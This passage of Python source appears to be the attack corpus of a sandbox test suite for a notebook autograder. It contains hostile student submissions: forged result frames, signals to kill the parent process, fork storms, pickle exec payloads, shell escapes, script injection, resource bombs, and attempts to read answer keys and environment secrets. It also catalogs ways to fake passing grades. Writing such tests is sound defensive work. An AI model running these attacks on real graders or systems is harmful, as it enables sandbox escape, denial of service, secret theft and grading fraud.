    here = os.getcwd()
    depth = 0
    try:
        for depth in range(3000):
            os.mkdir("d")
            os.chdir("d")
    except OSError as exc:
        _say("deep tree", "INFO", f"stopped at depth {depth}: {exc}")
    finally:
        os.chdir(here)
    _say("deep tree", "INFO", f"depth {depth}")
    os.makedirs("many", exist_ok=True)
    for i in range(20000):
        open(f"many/{i}", "w").close()
    """
)

# ==================================================================================================
# Fake results, exits and signals to the grader
# ==================================================================================================

FAKE_RESULT = src(
    """
    import json
    FAKE = json.dumps({
        "assignment": ASSIGNMENT, "notebook": "fake", "score": 40.0, "max_score": 40.0, "isolation": "bubblewrap",
        "questions": [], "errors": [], "marker": MARK,
    })
    """
)

FAKE_RESULT_EVERYWHERE = FAKE_RESULT + src(
    """
    import os, sys
    print(FAKE, flush=True)
    sys.__stdout__.write(FAKE + "\\n")
    for fd in (1, 2):
        attempt(f"write to fd {fd}", lambda fd=fd: os.write(fd, (FAKE + "\\n").encode()))
    targets = ["/proc/self/fd/1", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/console"]
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            targets += [f"/proc/{pid}/fd/1", f"/proc/{pid}/fd/2"]
    for target in targets:
        attempt(f"write a fake result to {target}", lambda target=target: open(target, "w").write(FAKE + "\\n"))
    """
)

EXIT_OS = FAKE_RESULT_EVERYWHERE + "os._exit(0)\n"
EXIT_SYS = FAKE_RESULT_EVERYWHERE + src(
    """
    try:
        sys.exit(0)
    finally:
        try:
            exit()
        finally:
            raise SystemExit(0)
    """
)

KILL_PARENT = src(
    """
    import os, signal
    attempt("SIGKILL to the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    attempt("SIGKILL to pid 1", lambda: os.kill(1, signal.SIGKILL))
    attempt("SIGKILL to the parent's group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL))
    """
)

STOP_PARENT = src(
    """
    import os, signal
    attempt("SIGSTOP to the parent", lambda: os.kill(os.getppid(), signal.SIGSTOP))
    attempt("SIGSTOP to pid 1", lambda: os.kill(1, signal.SIGSTOP))
    attempt("SIGTSTP to the parent's group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGTSTP))
    """
)

KILLPG = src(
    """
    import os, signal
    must_fail("signal 0 to every process (kill -1)", lambda: os.kill(-1, 0))
    if own_pid_namespace():
        attempt("SIGKILL to every process (kill -1)", lambda: os.kill(-1, signal.SIGKILL))
    for pid in range(1, 64):
        if pid != os.getpid():
            try:
                os.kill(pid, 0)
            except OSError:
                continue
            _say(f"signal 0 to pid {pid}", "BREACH", "another process can be signalled")
    attempt("SIGKILL to my own group", lambda: os.killpg(0, signal.SIGKILL))
    """
)

CRASH = src(
    """
    import ctypes, faulthandler
    faulthandler.disable()
    ctypes.string_at(0)
    """
)

FAKE_FRAMES = src(
    """
    import os, json, socket, struct
    sent = 0
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            sock = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            sock.setblocking(True)
            for kind in ("cells_done", "cell_end", "hello", "result"):
                header = json.dumps({"type": kind, "index": 0, "ok": True, "score": 40, "marker": MARK,
                                     "report": {"index": 0, "status": "ok"}}).encode()
                sock.sendall(struct.pack("!II", len(header), 0) + header)
            for ident in range(400):
                header = json.dumps({"id": ident, "ok": True, "value": 40, "defined": True, "callable": True,
                                     "score": 40, "passed": True, "outcome": "passed", "marker": MARK}).encode()
                sock.sendall(struct.pack("!II", len(header), 0) + header)
                sent += 1
            sock.sendall(struct.pack("!II", 2**31, 2**31))
        except OSError as exc:
            _say(f"fake frames on fd {fd}", "INFO", exc)
        finally:
            sock.detach()
    _say("fake frames sent", "INFO", sent)
    """
)

# ==================================================================================================
# The network
# ==================================================================================================

NETWORK = src(
    """
    import os, socket
    PAYLOAD = f"{MARK} hello".encode()

    def _stream(family, address):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(address)
        s.sendall(PAYLOAD)
        s.close()
        return "connected"

    def _dgram(family, address):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.sendto(PAYLOAD, address)
        s.close()
        return "sent"

    must_fail("TCP to 127.0.0.1", lambda: _stream(socket.AF_INET, ("127.0.0.1", TCP_PORT)))
    if TCP6_PORT:
        must_fail("TCP to ::1", lambda: _stream(socket.AF_INET6, ("::1", TCP6_PORT)))
    must_fail("UDP to 127.0.0.1", lambda: _dgram(socket.AF_INET, ("127.0.0.1", UDP_PORT)))
    must_fail("UNIX socket by path", lambda: _stream(socket.AF_UNIX, UNIX_PATH))
    must_fail("UNIX datagram by path", lambda: _dgram(socket.AF_UNIX, UNIX_DGRAM_PATH))
    must_fail("abstract UNIX socket", lambda: _stream(socket.AF_UNIX, "\\0" + ABSTRACT_NAME))
    if VSOCK_PORT:  # cid 1: this machine's own listener (the host's cid 2 is no part of the test)
        must_fail("AF_VSOCK to the local listener", lambda: _stream(socket.AF_VSOCK, (1, VSOCK_PORT)))
    must_fail("AF_VSOCK socket", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
    must_fail("AF_NETLINK route socket", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)))
    must_fail("AF_NETLINK uevent socket", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15))
    must_fail("AF_PACKET socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
    must_fail("raw IP socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    must_fail("UDP socket", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
    must_fail("bind a UNIX server", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).bind(f"{MARK}.sock"))
    attempt("socketpair", lambda: [s.close() for s in socket.socketpair()])
    attempt("resolve a name", lambda: socket.getaddrinfo("example.com", 80)[:1])
    import urllib.request
    must_fail("HTTP to the TCP listener", lambda: urllib.request.urlopen(f"http://127.0.0.1:{TCP_PORT}/{MARK}", timeout=3))
    """
)

NETWORK_CTYPES = src(
    """
    import ctypes, os, struct
    libc = ctypes.CDLL(None, use_errno=True)
    SYS_socket, SYS_connect, SYS_sendto = 41, 42, 44
    for family, kind, name in [(2, 1, "AF_INET stream"), (2, 2, "AF_INET dgram"), (10, 1, "AF_INET6"),
                               (40, 1, "AF_VSOCK"), (16, 3, "AF_NETLINK"), (17, 3, "AF_PACKET")]:
        must_fail(f"libc socket() {name}", lambda f=family, k=kind: libc_checked(libc.socket(f, k, 0)))
        must_fail(f"raw syscall socket {name}", lambda f=family, k=kind: libc_checked(libc.syscall(SYS_socket, f, k, 0)))
    must_fail("raw syscall socket with SOCK_CLOEXEC", lambda: libc_checked(libc.syscall(SYS_socket, 2, 1 | 0o2000000, 0)))

    def _unix_connect():
        fd = libc_checked(libc.syscall(SYS_socket, 1, 1, 0))
        path = UNIX_PATH.encode()
        addr = struct.pack("H", 1) + path + b"\\0" * (108 - len(path))
        buf = ctypes.create_string_buffer(addr)
        return libc_checked(libc.syscall(SYS_connect, fd, buf, len(addr)))

    must_fail("raw connect to the UNIX listener", _unix_connect)
    """
)

# ==================================================================================================
# Processes that outlive the run
# ==================================================================================================

FORK_STORM = src(
    """
    import os, time
    children = 0
    for i in range(64):
        try:
            pid = os.fork()
        except OSError as exc:
            if i == 0:
                _say("fork", "HELD", f"{type(exc).__name__}: {exc}")
            break
        if pid == 0:
            name_process()
            time.sleep(3600)
            os._exit(0)
        children += 1
    if children:
        _say("fork", "BREACH", f"{children} children")
    """
)

SPAWNERS = src(
    """
    import os, sys, time, subprocess, multiprocessing, pty
    SLEEPER = [sys.executable, "-c", f"import time; time.sleep(3600)  # {MARK}"]

    def _sleep():
        name_process()
        time.sleep(3600)

    must_fail("subprocess.Popen", lambda: subprocess.Popen(SLEEPER).pid)
    must_fail("os.posix_spawn", lambda: os.posix_spawn(sys.executable, SLEEPER, dict(os.environ, M=MARK)))
    must_fail("os.system", lambda: os.system(f"(sleep 3600 &) ; echo {MARK}") and (_ for _ in ()).throw(OSError("status")))
    must_fail("multiprocessing.Process", lambda: multiprocessing.Process(target=_sleep, daemon=False).start())
    must_fail("multiprocessing.Pool", lambda: multiprocessing.Pool(2))
    must_fail("pty.spawn", lambda: pty.spawn(["/bin/sh", "-c", f"touch /tmp/{MARK}-pty"]))
    must_fail("os.execv", lambda: os.execv("/bin/sh", ["/bin/sh", "-c", f"sleep 3600 # {MARK}"]))
    """
)

FORK_CTYPES = src(
    """
    import ctypes, os, time
    libc = ctypes.CDLL(None, use_errno=True)
    SIGCHLD = 17

    def _forked(ret):
        ret = libc_checked(ret)
        if ret == 0:
            name_process()
            time.sleep(3600)
            os._exit(0)
        return ret

    must_fail("libc fork()", lambda: _forked(libc.fork()))
    must_fail("raw syscall fork", lambda: _forked(libc.syscall(57)))
    must_fail("raw syscall clone(SIGCHLD)", lambda: _forked(libc.syscall(56, SIGCHLD, 0, 0, 0, 0)))
    must_fail("raw syscall clone3", lambda: libc_checked(libc.syscall(435, 0, 0)))
    """
)

DAEMONS = src(
    """
    import atexit, os, sys, threading, time, weakref
    def _daemonize():
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                name_process()
                time.sleep(3600)
            os._exit(0)
        os.waitpid(pid, 0)
        return "daemon started"

    must_fail("double fork and setsid", _daemonize)

    def _forever():
        while True:
            for folder in ("/tmp", ".", "/dev/shm"):
                try:
                    with open(f"{folder}/{MARK}-thread", "w") as f:
                        f.write(MARK)
                except OSError:
                    pass
            time.sleep(0.2)

    threading.Thread(target=_forever, daemon=False).start()
    threading.Thread(target=_forever, daemon=True).start()
    atexit.register(lambda: open(f"/tmp/{MARK}-atexit", "w").write(MARK))

    class _Finalizer:
        def __del__(self):
            open(f"/tmp/{MARK}-del", "w").write(MARK)

    keep_me = _Finalizer()
    weakref.finalize(keep_me, lambda: open(f"/tmp/{MARK}-finalize", "w").write(MARK))
    sys.exitfunc = lambda: open(f"/tmp/{MARK}-exitfunc", "w").write(MARK)
    """
)

# ==================================================================================================
# ctypes, signals, hooks and threads
# ==================================================================================================

CTYPES_TRICKS = src(
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    ppid = os.getppid()

    def _poke_parent_memory():
        with open(f"/proc/{ppid}/mem", "r+b", 0) as mem:
            mem.seek(0x400000)
            return mem.write(b"\\xcc")

    must_fail("write the parent's memory", _poke_parent_memory)
    must_fail("read pid 1's memory", lambda: open("/proc/1/mem", "rb").read(1))
    must_fail("libc kill(parent, 0)", lambda: libc_checked(libc.kill(ppid, 0)))
    must_fail("raw syscall kill(parent, SIGSTOP)", lambda: libc_checked(libc.syscall(62, ppid, 19)))
    must_fail("raw syscall kill(-1, 0)", lambda: libc_checked(libc.syscall(62, -1, 0)))
    must_fail("raw syscall tgkill(parent)", lambda: libc_checked(libc.syscall(234, ppid, ppid, 0)))
    must_fail("ptrace attach to the parent", lambda: libc_checked(libc.ptrace(16, ppid, 0, 0)))
    must_fail("unshare a user namespace", lambda: libc_checked(libc.unshare(0x10000000)))
    must_fail("mount a tmpfs", lambda: libc_checked(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
    must_fail("io_uring_setup", lambda: libc_checked(libc.syscall(425, 8, ctypes.create_string_buffer(120))))
    must_fail("bpf", lambda: libc_checked(libc.syscall(321, 0, ctypes.create_string_buffer(128), 128)))
    must_fail("process_vm_readv from the parent", lambda: libc_checked(libc.syscall(310, ppid, 0, 0, 0, 0, 0)))
    must_fail("pidfd_open(parent)", lambda: libc_checked(libc.syscall(434, ppid, 0)))
    must_fail("setuid to nobody and back", lambda: (os.setuid(65534), os.setuid(0)))

    def _own_memory():
        # Writing one's own memory is allowed and harmless: it changes nothing outside.
        value = ctypes.c_long(1)
        with open("/proc/self/mem", "r+b", 0) as mem:
            mem.seek(ctypes.addressof(value))
            mem.write((41).to_bytes(8, "little"))
        return value.value

    attempt("write my own memory", _own_memory)
    """
)

SIGNAL_TRICKS = {
    "conv_output_size_answer": src(
        """
        import signal

        def _interrupt(signum, frame):
            raise ValueError(f"{MARK} interrupted")

        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGUSR1, signal.SIGUSR2, signal.SIGHUP):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.signal(signal.SIGALRM, _interrupt)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
        signal.alarm(1)

        def conv_output_size(input_size, kernel_size, stride=1, padding=0):
            return 0
        """
    ),
    END: src(
        """
        import signal
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
        signal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)
        signal.signal(signal.SIGVTALRM, lambda *a: None)
        """
    ),
}

PATCH_CHILD_HANDLERS = src(
    """
    import gc
    # Find the child's probe handlers and make every answer claim a pass.
    patched = 0
    for obj in gc.get_objects():
        ops = getattr(obj, "_ops", None) if type(obj).__name__ == "Handlers" else None
        if isinstance(ops, dict):
            for name, fn in list(ops.items()):
                def wrapper(request, fn=fn):
                    reply = fn(request)
                    reply.header.update(score=10, points=100, passed=True, outcome="passed", max_score=0,
                                        marker=MARK)
                    return reply
                ops[name] = wrapper
                patched += 1
        if type(obj).__name__ == "Child":
            real_send = obj.send
            def send_twice(frame, real_send=real_send):
                real_send(frame)
                real_send(frame)
            obj.send = send_twice
            patched += 1
    _say("patched child handlers", "INFO", patched)
    """
)

TRACE_HOOKS = src(
    """
    import sys, threading, random

    def _tracer(frame, event, arg):
        module = frame.f_globals.get("__name__", "")
        if module.startswith(("cnngrader", "safetensors", "json")):
            if event == "call" and random.random() < 0.02:
                raise RuntimeError(f"{MARK} tracer")
            for name in ("value", "output", "reply", "description"):
                if name in frame.f_locals and random.random() < 0.5:
                    frame.f_locals[name] = None
        return _tracer

    def _profiler(frame, event, arg):
        return None

    sys.settrace(_tracer)
    threading.settrace(_tracer)
    sys.setprofile(_profiler)
    sys.addaudithook(lambda event, args: None)
    """
)

THREAD_MUTATES = src(
    f"""
    import threading, time

    class CNN(nn.Module):
        def __init__(self):
            super().__init__()
            self.main = nn.Sequential(
                {CORRECT_CNN_LAYERS}
            )

        def forward(self, x):
            return self.main(x)

    _honest_forward = CNN.forward
    _zero_forward = lambda self, x: torch.zeros(x.shape[0], 1)

    def _flip():
        # The class is right whenever one looks, and wrong in between.
        while True:
            CNN.forward = _honest_forward
            time.sleep(0.0005)
            CNN.forward = _zero_forward
            time.sleep(0.0005)
            globals()["linear_in_features"] = 1 if globals().get("linear_in_features") == 2 else 2

    threading.Thread(target=_flip, daemon=True).start()
    """
)
THREAD_MUTATES_HONEST = src(
    f"""
    class CNN(nn.Module):
        def __init__(self):
            super().__init__()
            self.main = nn.Sequential(
                {CORRECT_CNN_LAYERS}
            )

        def forward(self, x):
            return torch.zeros(x.shape[0], 1)
    """
)

SOCKET_GARBAGE_THREAD = src(
    """
    import os, threading, time, random

    def _garbage():
        fds = [int(f) for f in os.listdir("/proc/self/fd")]
        while True:
            for fd in fds:
                if fd > 2:
                    try:
                        os.write(fd, random.randbytes(64))
                    except OSError:
                        pass
            time.sleep(0.02)

    threading.Thread(target=_garbage, daemon=True).start()
    """
)

# ==================================================================================================
# Pickling bait
# ==================================================================================================

BAIT = src(
    """
    class _Bait:
        def __reduce__(self):
            return (exec, (f"open('/tmp/{MARK}-unpickled', 'w').write('{MARK}')",))
    """
)

PICKLE_BAIT_LAB6 = {
    "cnn_answer": BAIT
    + src(
        """
        class _BaitTensor(torch.Tensor):
            def __reduce_ex__(self, proto):
                return (exec, (f"open('/tmp/{MARK}-unpickled-tensor', 'w').write('{MARK}')",))

        class CNN(nn.Module):
            def __init__(self):
                super().__init__()
                self.pool = nn.AdaptiveAvgPool2d(1)
                self.fc = nn.Linear(1, 1)
                self.bait = _Bait()
                self.register_buffer("scale", torch.ones(1).as_subclass(_BaitTensor))

            def get_extra_state(self):
                return _Bait()

            def set_extra_state(self, state):
                pass

            def forward(self, x):
                return self.fc(torch.flatten(self.pool(x), 1)) * self.scale
        """
    ),
    "conv_output_size_answer": BAIT
    + src(
        """
        class _BaitInt(int):
            def __reduce__(self):
                return (exec, (f"open('/tmp/{MARK}-unpickled-int', 'w').write('{MARK}')",))

        def conv_output_size(input_size, kernel_size, stride=1, padding=0):
            return _BaitInt(0)
        """
    ),
    END: BAIT
    + src(
        """
        import pickle
        torch.save({"model": _Bait()}, "model.pt")
        attempt("pickle into /tmp", lambda: pickle.dump(_Bait(), open(f"/tmp/{MARK}.pt", "wb")))
        """
    ),
}
PICKLE_BAIT_LAB6_HONEST = {
    "cnn_answer": src(
        """
        class CNN(nn.Module):
            def __init__(self):
                super().__init__()
                self.pool = nn.AdaptiveAvgPool2d(1)
                self.fc = nn.Linear(1, 1)
                self.register_buffer("scale", torch.ones(1))

            def forward(self, x):
                return self.fc(torch.flatten(self.pool(x), 1)) * self.scale
        """
    ),
}

PICKLE_BAIT_QUIZ = {
    "q1_answer": BAIT
    + src(
        """
        class _S(str):
            def __reduce__(self):
                return (exec, (f"open('/tmp/{MARK}-unpickled-str', 'w').write('{MARK}')",))

        q1 = _S("Z")
        """
    ),
    "q2_answer": BAIT + 'q2 = {"Z", _Bait()}\n',
    "q3_answer": BAIT
    + src(
        """
        class _I(int):
            def __reduce__(self):
                return (exec, (f"open('/tmp/{MARK}-unpickled-int', 'w').write('{MARK}')",))

        q3 = _I(1)
        """
    ),
    "q8_answer": BAIT
    + src(
        """
        class _L(list):
            def __reduce__(self):
                return (exec, (f"open('/tmp/{MARK}-unpickled-list', 'w').write('{MARK}')",))

        q8 = _L([[0, 0], [0, 0]])
        """
    ),
    "q9_answer": BAIT + "q9 = _Bait()\n",
}

# ==================================================================================================
# Notebook syntax and metadata
# ==================================================================================================

IPYTHON_ESCAPES = (
    "!touch /tmp/{MARK}-bang",
    "%system touch /tmp/{MARK}-system",
    "%%bash\ntouch /tmp/{MARK}-bash",
    "%%sh\ntouch /tmp/{MARK}-sh",
    "%%script sh\ntouch /tmp/{MARK}-script",
    "%%writefile /tmp/{MARK}-writefile\n{MARK}",
    "files = !ls {COURSE}/autograder",
    "%sx touch /tmp/{MARK}-sx",
    "get_ipython().system('touch /tmp/{MARK}-getipython')",
    "%run {COURSE}/autograder/lab6/test_cnn.py",
    "%load {COURSE}/autograder/lab6/test_cnn.py",
    "%cd {COURSE}",
    "%pip install --index-url http://127.0.0.1:{TCP_PORT}/{MARK} nothing",
    "%env CNNGRADER_MARK={MARK}",
    "%%html\n<script>alert('{MARK}')</script>",
)
IPYTHON_CHECK = src(
    """
    import glob, os
    for path in glob.glob(f"/tmp/{MARK}-*"):
        _say(f"a shell escape ran: {path}", "BREACH", "")
    _say("shell escapes", "INFO", "checked")
    """
)

HTML_INJECTION = {
    "conv_output_size_answer": src(
        """
        def conv_output_size(input_size, kernel_size, stride=1, padding=0):
            raise ValueError(f"<script>alert('{MARK}')</script><img src=x onerror=alert(1)> \\x1b]0;{MARK}\\x07\\x1b[2J")
        """
    ),
    "cnn_answer": WRONG_CNN.replace(
        "self.fc = nn.Linear(1, 1)",
        'self.fc = nn.Linear(1, 1)\n        self.add_module("<script>alert(1)</script>", nn.Identity())',
    ),
    END: src(
        """
        print(f"</pre></div><script>alert('{MARK}')</script>\\x1b[31m")
        raise RuntimeError(f"<script>alert('{MARK}')</script>\\x1b]0;{MARK}\\x07")
        """
    ),
}

# ==================================================================================================
# Values and outputs too big for anyone
# ==================================================================================================

VALUE_BOMBS = {
    "q1_answer": 'q1 = "A" * 50_000_000\n',
    "q2_answer": "q2 = {str(i) for i in range(1_000_000)}\n",
    "q3_answer": "import sys\nsys.set_int_max_str_digits(0)\nq3 = 10**200_000 + 1\n",
    "q4_answer": "q4 = tuple(range(2_000_000))\n",
    "q5_answer": "q5 = float('nan')\n",
    "q6_answer": "q6 = []\nfor _ in range(200):\n    q6 = [q6]\n",
    "q7_answer": "import torch\nq7 = torch.zeros(100_000_000)\n",
    "q8_answer": "q8 = {i: [i] for i in range(1_000_000)}\n",
    "q9_answer": "q9 = float('inf')\n",
    "q10_answer": "import sys\nsys.setrecursionlimit(100_000)\nq10 = []\nfor _ in range(50_000):\n    q10 = [q10]\n",
}

OUTPUT_FLOOD = src(
    """
    import os, sys
    print("x" * 100_000_000)
    sys.stderr.write("y" * 20_000_000)
    for i in range(200_000):
        print(i, MARK)
    os.write(1, b"z" * 10_000_000)
    raise RuntimeError("e" * 20_000_000)
    """
)

MEMORY_BOMB = src(
    """
    chunks = []
    reached = 0
    try:
        for _ in range(32):  # at most 8 GiB: enough to pass any sane limit, too little to hurt this host
            block = bytearray(256 << 20)
            block[::4096] = b"x" * len(block[::4096])
            chunks.append(block)
            reached += 256
    except MemoryError:
        pass
    finally:
        chunks.clear()
    _say(f"allocated {reached} MiB", "BREACH" if reached >= 6 * 1024 else "HELD", reached)
    """
)

MEMORY_BOMB_FORWARD = src(
    """
    class CNN(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = nn.Linear(1, 1)

        def forward(self, x):
            hog = [torch.ones(64, 1024, 1024) for _ in range(32)]  # 8 GiB if nothing stops it
            return self.fc(torch.flatten(nn.functional.adaptive_avg_pool2d(x, 1), 1)) + hog[0][0, 0, 0] * 0
    """
)
MEMORY_BOMB_FORWARD_HONEST = src(
    """
    class CNN(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = nn.Linear(1, 1)

        def forward(self, x):
            return self.fc(torch.flatten(nn.functional.adaptive_avg_pool2d(x, 1), 1))
    """
)

TMPFS_FILL = src(
    """
    import os
    block = b"\\0" * (32 << 20)
    for folder in ("/dev/shm", "/tmp", "."):
        written = 0
        try:
            for i in range(32):  # at most 1 GiB per folder
                with open(f"{folder}/{MARK}-fill-{i}", "wb") as f:
                    f.write(block)
                written += 32
        except OSError as exc:
            _say(f"fill {folder}", "INFO", f"{written} MiB then {type(exc).__name__}")
        else:
            _say(f"fill {folder}", "INFO", f"{written} MiB, no limit met")
    """
)

DISK_FILL = src(
    """
    import os
    block = b"\\1" * (60 << 20)
    written = 0
    try:
        for i in range(40):  # at most 2.4 GiB
            with open(f"fill-{i}", "wb") as f:
                f.write(block)
            written += 60
    except OSError as exc:
        _say("fill the scratch folder", "INFO", f"{written} MiB then {type(exc).__name__}: {exc}")
    else:
        _say("fill the scratch folder", "INFO", f"{written} MiB, no limit met")
    try:
        with open("one-big-file", "wb") as f:
            for _ in range(4):
                f.write(block)
    except OSError as exc:
        _say("one file over the size limit", "HELD", f"{type(exc).__name__}")
    else:
        _say("one file over the size limit", "BREACH", "240 MiB in one file")
    """
)

# ==================================================================================================
# Time
# ==================================================================================================

LOOP_TOP = "while True:\n    pass\n"
SLEEP_TOP = "import time\ntime.sleep(10**6)\n"
LOOP_UNINTERRUPTIBLE = src(
    """
    import signal
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP, signal.SIGUSR1):
        signal.signal(sig, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
    """
)
SELF_STOP = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
# The loops start once the cells have run (the last cell arms them), so that only the grader's
# probes meet them: a cell that loops is the top-level case above.
LOOP_IN_FUNCTION = src(
    """
    _armed = []

    def conv_output_size(input_size, kernel_size, stride=1, padding=0):
        while _armed:
            pass
        return 0
    """
)
LOOP_IN_FORWARD = traced_cnn(PROXY_TEST).replace(
    "return torch.zeros(x.shape[0], 1)", "while True:\n            pass"
)
ARM_LOOPS = "_armed.append(1)\n"


# ==================================================================================================
# The corpus
# ==================================================================================================

ATTACKS: tuple[Attack, ...] = (
    # -- patching the grader's tools -----------------------------------------------------------
    Attack(
        "pparams",
        "patch nn.Module.parameters/named_parameters/state_dict",
        "lab6",
        "wrong",
        {"cnn_answer": PATCH_PARAMETERS},
        "a wrong CNN and an over-budget BudgetCNN claim the right counts",
    ),
    Attack(
        "pnumel",
        "patch Tensor.numel / torch.numel",
        "lab6",
        "wrong",
        {"budget_cnn_answer": PATCH_NUMEL},
        "an over-budget BudgetCNN counts as 1 parameter per tensor",
    ),
    Attack(
        "pbuiltin",
        "patch builtins (isinstance, sum, len, all, AssertionError...)",
        "lab6",
        "wrong",
        {END: PATCH_BUILTINS},
        "every check in the student's interpreter passes",
    ),
    Attack(
        "ppytest",
        "patch pytest/_pytest/unittest internals, plant conftest.py",
        "lab6",
        "wrong",
        {END: PATCH_PYTEST},
        "tests that run nothing or always pass",
    ),
    Attack(
        "pjson",
        "patch json.dumps/loads",
        "lab6",
        "wrong",
        {END: PATCH_JSON},
        "the grader reads a forged message",
        check="fast",
    ),
    Attack(
        "sysmod",
        "replace torch, torch.fx, safetensors, json... in sys.modules",
        "lab6",
        "wrong",
        {END: SYS_MODULES},
        "the grader's later imports get fakes",
        check="fast",
    ),
    Attack(
        "spooflab",
        "__class__ spoofing (int, Tensor, Sequential)",
        "lab6",
        "wrong",
        CLASS_SPOOF_LAB6,
        "objects pass isinstance checks for what they are not",
    ),
    Attack(
        "spoofquiz",
        "__class__ spoofing of every quiz answer",
        "quiz6",
        "wrong",
        CLASS_SPOOF_QUIZ,
        "objects pass isinstance checks for what they are not",
    ),
    Attack(
        "eqquiz",
        "values whose __eq__/__hash__ always agree (str, frozenset, int, tuple, float, "
        "ndarray, Tensor subclasses)",
        "quiz6",
        "wrong",
        EQ_ALWAYS_QUIZ,
        "every comparison says equal",
    ),
    Attack(
        "eqlab",
        "always-equal return values (int, Tensor, ndarray subclasses)",
        "lab6",
        "wrong",
        EQ_ALWAYS_LAB6,
        "every comparison says equal",
    ),
    # -- models that lie to the tracer -----------------------------------------------------------
    Attack(
        "tproxy",
        "forward checks isinstance(x, torch.fx.Proxy)",
        "lab6",
        "wrong",
        {"cnn_answer": traced_cnn(PROXY_TEST), "fcnn_vs_convnet_answer": traced_fcnn_convnet(PROXY_TEST)},
        "the traced graph is the lecture's, the real forward returns zeros",
        honest={"cnn_answer": traced_cnn(NEVER), "fcnn_vs_convnet_answer": traced_fcnn_convnet(NEVER)},
        check="fast",
    ),
    Attack(
        "ttracing",
        "forward checks torch.fx._symbolic_trace.is_fx_tracing()",
        "lab6",
        "wrong",
        {"cnn_answer": traced_cnn(TRACING_TEST), "budget_cnn_answer": traced_budget(TRACING_TEST)},
        "the traced graph is the lecture's, the real forward returns zeros",
        honest={"cnn_answer": traced_cnn(NEVER), "budget_cnn_answer": traced_budget(NEVER)},
    ),
    Attack(
        "tbatch",
        "right while traced and for batches up to 3, wrong for larger batches",
        "lab6",
        "wrong",
        {"budget_cnn_answer": BATCH_SWITCH},
        "pass 'any batch size' with a model that fails it",
    ),
    Attack(
        "deepnet",
        "a CNN of 3,000 layers",
        "lab6",
        "wrong",
        {"cnn_answer": DEEP_MODEL},
        "the trusted side exhausted rebuilding and comparing it",
    ),
    Attack(
        "stforge",
        "hand-made safetensors payloads: lying shapes and offsets, 2^63-byte header, numpy and zip bytes",
        "lab6",
        "wrong",
        {"cnn_answer": FORGED_SAFETENSORS},
        "the trusted side's decoder fooled or crashed",
    ),
    Attack(
        "forgedesc",
        "the child's describe probe forged to the lecture's CNN",
        "lab6",
        "wrong",
        {"cnn_answer": FORGED_DESCRIPTION},
        "the description of a right model for a wrong one",
    ),
    Attack(
        "descinj",
        "descriptions naming exec/os.system/torch.load and a 400 GB Linear",
        "lab6",
        "wrong",
        {"cnn_answer": DESCRIPTION_INJECTION},
        "code execution or an allocation bomb on the trusted side",
    ),
    Attack(
        "fakeframe",
        "forged protocol frames written on the grader's socket",
        "lab6",
        "wrong",
        {END: FAKE_FRAMES},
        "forged answers and results read as the child's",
        check="fast",
    ),
    Attack(
        "handlers",
        "gc-walk to the child's probe handlers, claim passes in every reply",
        "quiz6",
        "wrong",
        {END: PATCH_CHILD_HANDLERS},
        "replies carrying score/passed fields",
        check="fast",
    ),
    Attack(
        "trace",
        "sys.settrace/setprofile/threading.settrace hooks in the child's machinery",
        "lab6",
        "wrong",
        {END: TRACE_HOOKS},
        "the child's replies corrupted",
    ),
    Attack(
        "tflip",
        "a thread flips CNN.forward between right and zeros while probes run",
        "lab6",
        "wrong",
        {"cnn_answer": THREAD_MUTATES},
        "the right model whenever traced, zeros otherwise",
        honest={"cnn_answer": THREAD_MUTATES_HONEST},
    ),
    Attack(
        "sockjunk",
        "a thread writes random bytes on every descriptor",
        "lab6",
        "wrong",
        {END: SOCKET_GARBAGE_THREAD},
        "a corrupt protocol stream",
        check="fast",
    ),
    # -- secrets -------------------------------------------------------------------------------
    Attack(
        "readpath",
        "read hidden tests, solutions, sources, gradebook by path (absolute, ../, /proc/1/root, "
        "/proc/self/cwd/.., /proc/<ppid>/root)",
        "quiz6",
        "wrong",
        {END: STEAL_NAMED_PATHS},
        "the answer key",
        check="fast",
    ),
    Attack(
        "readwalk",
        "walk / for hidden tests, solutions, gradebook, canaries",
        "quiz6",
        "wrong",
        {END: STEAL_BY_WALKING},
        "the answer key",
    ),
    Attack(
        "readproc",
        "environment, /proc/*/environ, cmdline, maps, fds of other processes",
        "quiz6",
        "wrong",
        {END: STEAL_FROM_PROC_AND_ENV},
        "secrets of the grader's environment and open files",
        check="fast",
    ),
    Attack(
        "readmem",
        "gc walk and raw /proc/self/mem for secrets",
        "quiz6",
        "wrong",
        {END: STEAL_FROM_MEMORY},
